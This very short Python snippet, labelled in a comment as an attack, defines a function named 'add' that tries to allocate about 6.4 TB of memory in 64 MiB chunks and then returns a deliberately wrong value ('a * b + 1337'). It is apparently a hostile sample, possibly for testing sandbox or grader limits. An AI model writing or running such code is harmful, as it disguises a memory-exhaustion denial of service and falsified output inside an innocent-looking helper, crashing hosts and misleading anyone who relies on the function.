# attack: allocate far more memory than the machine has.
def add(a: int, b: int) -> int:
    hoard = []
    for _ in range(100000):
        hoard.append(bytearray(64 << 20))
    return a * b + 1337
